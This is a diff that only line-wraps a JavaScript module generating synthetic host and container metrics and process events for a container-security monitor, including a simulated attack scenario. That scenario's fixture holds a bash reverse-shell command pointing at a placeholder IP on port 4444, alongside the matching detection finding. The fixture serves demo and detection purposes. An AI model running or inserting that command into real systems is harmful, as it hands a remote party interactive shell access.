@@ -15,7 +15,8 @@ export function wave(seed, t, period) {
   const s = f * f * (3 - 2 * f);
   return noise(seed, Math.floor(x)) * (1 - s) + noise(seed, Math.floor(x) + 1) * s;
 }
-const hex = (seed, length) => Array.from({ length }, (_, i) => Math.floor(noise(seed, i) * 16).toString(16)).join('');
+const hex = (seed, length) =>
+  Array.from({ length }, (_, i) => Math.floor(noise(seed, i) * 16).toString(16)).join('');
 const MiB = 1024 * 1024;
 
 const named = [
@@ -33,8 +34,16 @@ const named = [
 
 export function makeContainers(count) {
   return Array.from({ length: count }, (_, i) => {
-    const [name, namespace, image, cpu, memory, limit, oom, restarts] =
-      named[i] ?? [`service-${String(i).padStart(2, '0')}`, 'apps', `registry.example/apps/service:${i}`, 0.02 + noise(7, i) * 0.1, 40 + noise(9, i) * 160, 256, 0, 0];
+    const [name, namespace, image, cpu, memory, limit, oom, restarts] = named[i] ?? [
+      `service-${String(i).padStart(2, '0')}`,
+      'apps',
+      `registry.example/apps/service:${i}`,
+      0.02 + noise(7, i) * 0.1,
+      40 + noise(9, i) * 160,
+      256,
+      0,
+      0,
+    ];
     const id = hex(i + 1, 64);
     return {
       name,
@@ -59,9 +68,15 @@ export function makeStore(containers) {
   const host = { job: 'node-exporter', instance: hostName };
   /** Nothing was seen before the start, nor in a minute when nothing was collected. */
   const known = (t) => t >= started / 1000 - 3000 && !(t > started / 1000 + 60 && t < started / 1000 + 118);
-  const add = (name, labels, level) => series.push({ labels: { __name__: name, ...labels }, at: (t) => (known(t) ? level(t) : null) });
+  const add = (name, labels, level) =>
+    series.push({ labels: { __name__: name, ...labels }, at: (t) => (known(t) ? level(t) : null) });
   const counter = (name, labels, rate, extra = {}) =>
-    series.push({ labels: { __name__: name, ...labels }, at: (t) => (known(t) ? rate(0) * (t % 1e7) : null), rate, ...extra });
+    series.push({
+      labels: { __name__: name, ...labels },
+      at: (t) => (known(t) ? rate(0) * (t % 1e7) : null),
+      rate,
+      ...extra,
+    });
 
   const busy = (t) => 0.24 + 0.3 * wave(1, t, 140) + 0.1 * wave(2, t, 17);
   const modes = {
@@ -74,8 +89,11 @@ export function makeStore(containers) {
     steal: () => 0,
   };
   for (let cpu = 0; cpu < 8; cpu += 1) {
-    for (const [mode, of] of Object.entries(modes)) counter('node_cpu_seconds_total', { ...host, cpu: String(cpu), mode }, (t) => of(t + cpu * 7));
-    counter('node_cpu_seconds_total', { ...host, cpu: String(cpu), mode: 'idle' }, (t) => Math.max(0, 1 - Object.values(modes).reduce((s, f) => s + f(t + cpu * 7), 0)));
+    for (const [mode, of] of Object.entries(modes))
+      counter('node_cpu_seconds_total', { ...host, cpu: String(cpu), mode }, (t) => of(t + cpu * 7));
+    counter('node_cpu_seconds_total', { ...host, cpu: String(cpu), mode: 'idle' }, (t) =>
+      Math.max(0, 1 - Object.values(modes).reduce((s, f) => s + f(t + cpu * 7), 0)),
+    );
   }
   add('node_load1', host, (t) => 2.1 + 3 * wave(1, t, 140));
   add('node_load5', host, (t) => 2.4 + 2 * wave(1, t, 400));
@@ -83,7 +101,11 @@ export function makeStore(containers) {
   add('node_memory_MemTotal_bytes', host, () => 33_567_895_552);
   add('node_memory_MemAvailable_bytes', host, (t) => 33_567_895_552 * (0.42 - 0.12 * wave(5, t, 300)));
   counter('node_pressure_cpu_waiting_seconds_total', host, (t) => 0.03 * wave(6, t, 50));
-  counter('node_pressure_memory_waiting_seconds_total', host, (t) => 0.01 * Math.max(0, wave(7, t, 80) - 0.5));
+  counter(
+    'node_pressure_memory_waiting_seconds_total',
+    host,
+    (t) => 0.01 * Math.max(0, wave(7, t, 80) - 0.5),
+  );
   counter('node_pressure_io_waiting_seconds_total', host, (t) => 0.08 * Math.max(0, wave(3, t, 90) - 0.4));
   for (const [device, mountpoint, size, used] of [
     ['/dev/nvme0n1p2', '/', 250e9, 0.61],
@@ -98,21 +120,48 @@ export function makeStore(containers) {
     counter('node_disk_read_bytes_total', { ...host, device }, (t) => 9e6 * wave(8, t, 40) ** 2);
     counter('node_disk_written_bytes_total', { ...host, device }, (t) => 2.4e7 * wave(9, t, 60) ** 2 + 4e5);
   }
-  counter('node_network_receive_bytes_total', { ...host, device: 'eth0' }, (t) => 3.1e6 + 6e6 * wave(10, t, 70));
-  counter('node_network_transmit_bytes_total', { ...host, device: 'eth0' }, (t) => 1.4e6 + 3e6 * wave(12, t, 55));
+  counter(
+    'node_network_receive_bytes_total',
+    { ...host, device: 'eth0' },
+    (t) => 3.1e6 + 6e6 * wave(10, t, 70),
+  );
+  counter(
+    'node_network_transmit_bytes_total',
+    { ...host, device: 'eth0' },
+    (t) => 1.4e6 + 3e6 * wave(12, t, 55),
+  );
   counter('node_network_receive_bytes_total', { ...host, device: 'lo' }, () => 1e5);
   add('node_boot_time_seconds', host, () => started / 1000 - 12.4 * 86_400);
   add('node_uname_info', { ...host, release: '6.12.9', sysname: 'Linux', nodename: hostName }, () => 1);
 
   for (const c of containers) {
-    const labels = { job: 'kubelet', metrics_path: '/metrics/cadvisor', instance: hostName, id: c.cgroup, name: c.id, image: c.image, pod: c.pod, namespace: c.namespace, container: c.name };
+    const labels = {
+      job: 'kubelet',
+      metrics_path: '/metrics/cadvisor',
+      instance: hostName,
+      id: c.cgroup,
+      name: c.id,
+      image: c.image,
+      pod: c.pod,
+      namespace: c.namespace,
+      container: c.name,
+    };
     counter('container_cpu_usage_seconds_total', labels, (t) => c.cpu * (0.45 + 1.1 * wave(c.seed, t, 45)));
-    const memory = (t) => Math.min(c.limit ? c.limit * 0.985 : Infinity, c.memory * (0.97 + 0.06 * wave(c.seed + 3, t, 200)));
+    const memory = (t) =>
+      Math.min(c.limit ? c.limit * 0.985 : Infinity, c.memory * (0.97 + 0.06 * wave(c.seed + 3, t, 200)));
     add('container_memory_working_set_bytes', labels, memory);
     add('container_memory_usage_bytes', labels, (t) => memory(t) * 1.2);
     add('container_spec_memory_limit_bytes', labels, () => c.limit);
-    counter('container_network_receive_bytes_total', { ...labels, interface: 'eth0' }, (t) => c.cpu * 9e5 * wave(c.seed + 5, t, 30));
-    counter('container_network_transmit_bytes_total', { ...labels, interface: 'eth0' }, (t) => c.cpu * 5e5 * wave(c.seed + 6, t, 30));
+    counter(
+      'container_network_receive_bytes_total',
+      { ...labels, interface: 'eth0' },
+      (t) => c.cpu * 9e5 * wave(c.seed + 5, t, 30),
+    );
+    counter(
+      'container_network_transmit_bytes_total',
+      { ...labels, interface: 'eth0' },
+      (t) => c.cpu * 5e5 * wave(c.seed + 6, t, 30),
+    );
     add('container_processes', labels, () => 1 + Math.round(c.cpu * 14));
     counter('container_oom_events_total', labels, () => 0);
     series.at(-1).at = (t) => (known(t) ? c.oom : null);
@@ -168,8 +217,10 @@ export function makeEvent(n, containers) {
     });
   }
   if (kind === 'exec') base['vedette.streams'] = ['other', 'pipe 81231', 'pipe 81232'];
-  if (kind === 'exit') Object.assign(base, { 'process.exit.code': noise(27, n) > 0.92 ? 1 : 0, 'vedette.exit.signal': false });
-  if (kind === 'fork') Object.assign(base, { 'vedette.child.pid': pid + 1, 'vedette.child.start_ns': String(ms) + '000001' });
+  if (kind === 'exit')
+    Object.assign(base, { 'process.exit.code': noise(27, n) > 0.92 ? 1 : 0, 'vedette.exit.signal': false });
+  if (kind === 'fork')
+    Object.assign(base, { 'vedette.child.pid': pid + 1, 'vedette.child.start_ns': String(ms) + '000001' });
   return base;
 }
 
@@ -188,7 +239,12 @@ function of(id, ms, kind, c, p) {
     'process.command_line': p.line,
     'process.real_user.id': 0,
     'process.ancestors': [
-      { pid: p.parent, start_ns: `${8_000_000 + p.parent}000111`, name: 'containerd-shim', executable: '/usr/bin/containerd-shim-runc-v2' },
+      {
+        pid: p.parent,
+        start_ns: `${8_000_000 + p.parent}000111`,
+        name: 'containerd-shim',
+        executable: '/usr/bin/containerd-shim-runc-v2',
+      },
       { pid: 1, start_ns: '1000000', name: 'systemd', executable: '/usr/lib/systemd/systemd' },
     ],
   };
@@ -217,11 +273,21 @@ export function attack(containers, firstId) {
     'network.peer.port': 4444,
   };
   const list = [
-    of(firstId, ms, 'exec', c, { pid: 4702, parent: 2220, name: 'sh', path: '/bin/sh', line: 'sh -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"' }),
+    of(firstId, ms, 'exec', c, {
+      pid: 4702,
+      parent: 2220,
+      name: 'sh',
+      path: '/bin/sh',
+      line: 'sh -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"',
+    }),
     Object.assign(of(firstId + 1, ms + 3, 'connection', c, bash), peer),
     Object.assign(of(firstId + 2, ms + 4, 'stream_redirect', c, bash), peer, { 'vedette.stream': 0 }),
     Object.assign(of(firstId + 3, ms + 5, 'exec', c, bash), {
-      'vedette.streams': ['socket tcp outbound 203.0.113.66:4444', 'socket tcp outbound 203.0.113.66:4444', 'socket tcp outbound 203.0.113.66:4444'],
+      'vedette.streams': [
+        'socket tcp outbound 203.0.113.66:4444',
+        'socket tcp outbound 203.0.113.66:4444',
+        'socket tcp outbound 203.0.113.66:4444',
+      ],
       'vedette.exec.upper_layer': true,
     }),
     of(firstId + 4, ms + 4200, 'exec', c, whoami),
@@ -231,8 +297,16 @@ export function attack(containers, firstId) {
     rule: 'reverse-shell',
     severity: 'critical',
     title: 'Reverse shell: bash in debug-shell is led by 203.0.113.66',
-    description: 'The standard input and output of an interpreter lead to a remote peer: whoever sits there types commands into this container and reads their output.',
-    labels: { alertname: 'ReverseShell', severity: 'critical', host: hostName, container: c.name, container_id: c.id.slice(0, 12), peer: '203.0.113.66' },
+    description:
+      'The standard input and output of an interpreter lead to a remote peer: whoever sits there types commands into this container and reads their output.',
+    labels: {
+      alertname: 'ReverseShell',
+      severity: 'critical',
+      host: hostName,
+      container: c.name,
+      container_id: c.id.slice(0, 12),
+      peer: '203.0.113.66',
+    },
     first_unix_nano: list[3].time_unix_nano,
     last_unix_nano: list[4].time_unix_nano,
     count: 2,
@@ -248,6 +322,17 @@ export function attack(containers, firstId) {
   const told = of(firstId + 5, ms + 6, 'finding', c, bash);
   told.finding = finding;
   list.push(told);
-  list.push(Object.assign(of(firstId + 6, ms + 9000, 'oom_kill', containers[2], { pid: 9120, parent: 2213, name: 'search', path: '/app/search', line: '/app/search --index /data' }), { 'vedette.count': 1 }));
+  list.push(
+    Object.assign(
+      of(firstId + 6, ms + 9000, 'oom_kill', containers[2], {
+        pid: 9120,
+        parent: 2213,
+        name: 'search',
+        path: '/app/search',
+        line: '/app/search --index /data',
+      }),
+      { 'vedette.count': 1 },
+    ),
+  );
   return { events: list, finding };
 }
